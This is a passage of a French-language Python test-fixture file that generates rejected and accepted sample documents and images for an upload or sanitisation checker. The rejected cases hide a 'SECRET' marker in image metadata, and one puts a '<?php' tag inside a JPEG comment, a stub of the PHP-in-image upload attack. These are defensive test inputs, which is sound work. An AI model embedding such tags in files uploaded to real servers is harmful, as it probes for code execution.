    "png à position": lambda: picture(exif=_exif("SECRET")),
    "png à morceau inconnu": lambda: _png_with(b"seCr", b"SECRET" * 20),
    "png à profil": lambda: picture(icc_profile=b"SECRET" * 30),
    "jpeg à position": lambda: picture("JPEG", exif=_exif("SECRET")),
    "jpeg à commentaire": lambda: _jpeg_with(b"<?php SECRET"),
    "jpeg à vignette": lambda: picture("JPEG", exif=_exif("SECRET" * 100)),
}


# ── honest files ─────────────────────────────────────────────────────────────────────────────────────────────────────
def _note(made: pikepdf.Pdf) -> None:
    made.pages[0].Annots = [
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[0, 0, 9, 9],
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://x.invalid/"),
        )
    ]


def _form(made: pikepdf.Pdf) -> None:
    field = made.make_indirect(pikepdf.Dictionary(FT=pikepdf.Name.Tx, T="nom", V="CHU de Brest"))
    made.Root.AcroForm = pikepdf.Dictionary(Fields=[field])


TEAM = [
    ("Nom", "Prénom", "Fonction", "Quotité"),
    *(("LE GALL", "Anne", "Cheffe de projet", f"{n} %") for n in range(10, 90, 10)),
]
PLAN = [("Jalon", "Responsable", "Date"), *((f"Lot {n}", "CHU de Brest", f"{n:02d}/03/2023") for n in range(1, 12))]
EMPTY = [("Nom", "Prénom", "Date de naissance", "IPP", "NIR"), ("", "", "", "", "")]
MONEY = [("Poste", "2023", "2024"), *((f"Poste {n}", 1_234_567.89 * n, 987_654_321_012_345 // n) for n in range(1, 40))]
TEXTS = {
    "prose": "L’entrepôt réunit le nom, le prénom, la date de naissance et l’IPP de chaque patient, pseudonymisés.",
    "jalons": "Le 01/02/2023, le 15/03/2023, le 20/04/2023, le 11/10/2023, le 12/12/2023 et le 01/02/2024.",
    "siret": "SIRET 130 025 265 00013, SIREN 130025265, FINESS 350005179.",
    "iban": "IBAN FR76 3000 6000 0112 3456 7890 189.",
    "téléphone": "Tél. 02 98 22 33 33, poste 84 12 76.",
    "clé fausse": f"Exemple de numéro de forme fausse : {nir()[:13]}{(int(nir()[13:]) % 97) + 1:02d}.",
    "décimales": f"Résultat 0,{nir()} et 12.{nir()}.",
    "hexadécimal": "Empreinte 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08.",
}
for _name, _text in TEXTS.items():
    GOOD |= {
        f"docx {_name}": lambda text=_text: packed(docx_parts(text)),
        f"odt {_name}": lambda text=_text: packed(odt_parts(text)),
        f"pdf {_name}": lambda text=_text: pdf(text),
    }
for _name, _rows in {"équipe": TEAM, "calendrier": PLAN, "modèle vide": EMPTY, "budget": MONEY}.items():
    GOOD |= {
        f"xlsx {_name}": lambda rows=_rows: packed(xlsx_parts(rows)),
        f"ods {_name}": lambda rows=_rows: packed(ods_parts(rows)),
        f"docx tableau {_name}": lambda rows=_rows: packed(
            docx_parts(rows=[[str(cell) for cell in row] for row in rows])
        ),
    }
GOOD |= {
    "pdf d’une page blanche": lambda: pdf(),
    "pdf de 200 pages": lambda: pdf("Une ligne", pages=200),
    "pdf de 2 000 pages": lambda: _raw(_PAGES[0], b"<</Type/Pages/Kids[%s]/Count 2000>>" % b" ".join(b"%d 0 R" % n for n in range(3, 2003)), *(_PAGE % b"" for _ in range(2000))),
    "pdf lien vers une page": lambda: pdf("a", change=_note),
    "pdf formulaire": lambda: pdf("a", change=_form),
    "pdf linéarisé": lambda: pdf("a", linearize=True),
    "pdf aux objets rangés": lambda: pdf("a", object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "pdf finissant par des blancs": lambda: pdf("a") + b"\r\n\0\0",
    "pdf à flux mal compté": lambda: _raw(*_PAGES, _PAGE % b"/Contents 4 0 R", b"<</Length 3>>stream\nBT (a) Tj ET\nendstream"),
    "docx avec lien": _related("hyperlink", "https://www.sante.gouv.fr/", "x"),
    "docx avec table des matières": _word(_field(' TOC \\o "1-3" \\h ', 'HYPERLINK "https://x.invalid" \\l "link"')),
    "docx avec image": lambda: packed(docx_parts("a") | {"word/media/image1.png": picture()}),
    "xlsx avec formules": _formula("SUM(A1:A8)*VLOOKUP(B2,'Autre feuille'!A:C,2,0)"),
    "xlsx avec image": lambda: packed(xlsx_parts() | {"xl/media/image1.jpeg": picture("JPEG")}),
    "xlsx de 20 000 lignes": lambda: packed(xlsx_parts([(f"ligne {n}", n, n * 3) for n in range(20_000)])),
    "xlsx imprimante": lambda: packed(xlsx_parts() | {"xl/printerSettings/printerSettings1.bin": b"\0P\0D\0F" * 50}),
    "odt avec image": lambda: packed(odt_parts("a", body="<draw:image xlink:href='Pictures/a.png'/>") | {"Pictures/a.png": picture()}),
    "odt avec lien": lambda: packed(odt_parts("a", body="<text:p><text:a xlink:href='https://x.invalid/'>a</text:a></text:p>")),
    "odt venu d’un modèle": lambda: packed(odt_parts("a") | {"meta.xml": "<m><template href='../../a/rapport.ott'/></m>"}),
    "ods avec graphique": lambda: packed(ods_parts() | {"Object 1/content.xml": "<a/>", "Object 1/styles.xml": "<a/>"}),
    "ods avec formules": lambda: packed(ods_parts(body="<table:table-cell table:formula='of:=SUM([.A1:.A8])'/>")),
    "png": lambda: picture(),
    "png gris": lambda: picture(mode="L"),
    "png à palette": lambda: picture(mode="P"),
    "png transparent": lambda: picture(mode="RGBA"),
    "png noir et blanc": lambda: picture(mode="1"),
    "png d’une page numérisée": lambda: picture(size=(2480, 3508), mode="L"),
    "jpeg": lambda: picture("JPEG"),
    "jpeg gris": lambda: picture("JPEG", mode="L"),
    "jpeg cmjn": lambda: picture("JPEG", mode="CMYK"),
    "jpeg progressif": lambda: picture("JPEG", (800, 600), progressive=True),
    "jpeg d’appareil": lambda: picture("JPEG", (4000, 3000)),
}  # fmt: skip
